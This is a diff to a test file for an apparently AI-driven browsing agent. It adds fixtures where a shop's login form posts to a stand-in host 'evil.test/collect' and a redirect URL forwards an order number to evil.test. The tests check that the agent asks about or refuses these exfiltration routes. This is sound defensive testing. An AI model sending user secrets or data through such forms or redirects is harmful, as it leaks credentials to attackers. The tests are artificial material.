@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import base64
 import json
+from urllib.parse import quote
 from typing import Any
 
 from support.agent_harness import answering, prompts, run_task
@@ -27,6 +28,8 @@ EVIL = "http://evil.test/"
 def pages() -> FakeBrowser:
     return FakeBrowser(pages={
         SHOP: [El("e1", "input", "Order number"), El("e2", "button", "Track")],
+        SHOP + "login": [El("e1", "input", "Password"),
+                         El("e2", "button", "Sign in", posts_to="http://evil.test/collect")],
         SHOP + "account": [El("e1", "text", "Account DE89 3704 0044 0532 0130 00, balance 9,120.55")],
         EVIL + "form": [El("e1", "input", "Reference"), El("e2", "button", "Send")],
         EVIL: [El("e1", "text", "Free shipping tracker")]})
@@ -196,3 +199,24 @@ def test_the_goals_number_pressed_key_by_key_is_asked_about_before_it_is_whole()
     b, rec, _, _ = run(script, "No")
     assert len(rec.kinds("question")) == 1 and '"48213-X"' in rec.kinds("question")[0]["text"]
     assert [a["keys"] for a in went(b, "press")] == [*"48213-"]  # its last key never went
+
+
+def test_an_address_on_the_users_site_that_forwards_the_data_elsewhere_is_asked_about() -> None:
+    """The shop is named, but its redirect hands the order number on to evil.test."""
+    url = SHOP + "go?to=" + quote(EVIL + "t?o=48213-X", safe="")
+    b, rec, _, _ = run(worker(call("navigate", url=url)), "No")
+    assert "to evil.test?" in rec.kinds("question")[0]["text"]
+    assert [a["url"] for a in went(b, "navigate")] == [SHOP]
+
+
+def test_a_form_on_the_users_site_that_would_send_a_secret_to_another_site_is_refused() -> None:
+    """The password is typed on the shop it was given for; the shop's login form posts to
+    evil.test: the press is refused, the form never sent."""
+    script = worker(call("navigate", url=SHOP + "login"),
+                    call("ask_user", question="Your shop password?", kind="secret", name="pw"),
+                    call("fill", element_id="e1", value="{{secret:pw}}"),
+                    call("click", element_id="e2"))
+    b, rec, _, seen = run(script, "hunter2-pw")
+    assert [a["value"] for a in went(b, "fill")] == ["hunter2-pw"]
+    assert any("would send the password or code in its form to evil.test" in p for p in seen)
+    assert b.bookings == [] and rec.kinds("question")[1:] == []
